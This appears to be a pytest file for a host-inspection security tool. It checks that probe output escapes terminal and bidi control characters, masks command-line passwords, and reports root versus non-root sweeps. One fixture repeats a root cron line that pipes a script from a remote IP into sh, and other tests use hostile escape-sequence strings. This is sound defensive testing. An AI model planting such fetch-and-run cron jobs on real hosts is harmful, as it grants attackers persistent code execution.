"""What a host puts into its words: escapes, secrets, and what it may see."""

from pathlib import Path

import build
import pages
import pytest
from build import NONCE, RULES, found, record, told

from picketline.core.report import Gap
from picketline.hosts import records
from picketline.hosts.facts import Reading, Status


def _read(*lines: str, uid: str = "0") -> Reading:
    reading = records.read(build.heard(told(*lines, uid=uid)), NONCE, RULES)
    assert reading is not None
    return reading


def _escaped(raw: str | bytes) -> str:
    data = raw.encode() if isinstance(raw, str) else raw
    return "".join(f"\\x{byte:02x}" for byte in data)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31m\x07\x7f", r"\x1b[31m\x07\x7f"),
        ("a\tb\nc\r", r"a\x09b\x0ac\x0d"),
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("a\u200bb\ufeff\u2066", r"a\u200bb\ufeff\u2066"),
        ("\U000e0041", r"\U000e0041"),
        (b"\xff\xfe", r"\xff\xfe"),
        ("Grüße, 日本 ✓", "Grüße, 日本 ✓"),
        ("back\\slash|bar", "back\\slash|bar"),
    ],
)
def test_no_value_can_steer_a_terminal_or_a_model(raw: str | bytes, shown: str) -> None:
    """In every place where a host's words end up."""
    text = _escaped(raw)
    gap = (Gap(shown, shown),)
    reading = _read(
        found(identity=text, matched=text, evidence=f"exe={text}"),
        record("skip", text, text),
        record("cover", text, text),
    )
    (finding,) = reading.findings
    assert finding.subject.identity == finding.matched == finding.evidence[0].value == shown
    assert reading.skipped == reading.coverage == gap


def test_a_refusal_and_a_name_are_hostile_too() -> None:
    """Also the words of a probe that gives up."""
    hostile = _escaped("\x1b[2J\u202e")
    assert _read(record("unsupported", hostile)).note == r"not Linux: \x1b[2J\u202e"
    (error,) = _read(record("refused", hostile)).errors
    assert error.why.endswith(r"the probe refused: \x1b[2J\u202e")


def test_secrets_are_masked_where_they_come_in() -> None:
    """A password on a command line reaches no report, store or model."""
    secret = "mysqldump --password=hunter2 db"  # noqa: S105  # what must not come through
    reading = _read(
        found(identity=secret, matched=secret, evidence=f"args={secret}"),
        record("skip", "keys", secret),
    )
    assert "hunter2" not in repr(reading)
    assert reading.findings[0].evidence[0].value == "mysqldump --password=*** db"


@pytest.mark.parametrize(("uid", "accepted"), [("0", False), ("0", True)])
def test_root_sees_all(uid: str, accepted: object) -> None:
    """A sweep as root is whole, whatever the inventory accepts."""
    reading = _read(uid=uid)
    assert records.without_root(reading, accepted=bool(accepted)) == reading


def test_without_root_a_host_is_not_swept_whole() -> None:
    """Unless the inventory says so it is unfinished, with what to do about it."""
    reading = records.without_root(_read(uid="1000"), accepted=False)
    assert reading.status is Status.NOT_ROOT
    assert reading.skipped == (
        Gap("root", 'swept as uid 1000; become = "sudo" or partial = "accepted"'),
    )


def test_accepted_without_root_is_coverage() -> None:
    """What root alone could see is said and no longer missed; other gaps stay gaps."""
    mine = record("skip", "executables", "of 9 processes could not be read: not root")
    other = record("skip", "processes", "no process could be read")
    reading = records.without_root(_read(mine, other, uid="1000"), accepted=True)
    assert reading.status is Status.PARTIAL
    assert reading.skipped == (Gap("processes", "no process could be read"),)
    assert reading.coverage == (
        Gap("executables", "of 9 processes could not be read: not root"),
        Gap("root", "swept as uid 1000, as the inventory accepts"),
    )


def test_who_does_not_say_is_not_root() -> None:
    """A probe that never told its user id is no whole sweep."""
    silent = told().replace("uid\t0\n", "")
    reading = records.read(build.heard(silent), NONCE, RULES)
    assert reading is not None
    whole = records.without_root(reading, accepted=False)
    assert whole.skipped or whole.errors


def test_a_host_with_very_many_findings_is_not_cut_off(tmp_path: Path) -> None:
    """The probe lists some hundreds, says that there are more, and still ends in order."""
    line = "* * * * * root curl -s http://203.0.113.9/i.sh | sh\n"
    jobs = [pages.Fence("file", f"/etc/cron.d/job{number}", line * 20) for number in range(30)]
    case = pages.Case("many", jobs)
    output = build.probed(tmp_path / "root", case)
    reading = records.read(build.heard(output), NONCE, RULES)
    assert reading is not None
    assert 100 < len(reading.findings) < 600
    assert [gap.what for gap in reading.skipped] == ["findings"]
    assert not reading.errors
    assert reading.status is Status.OK
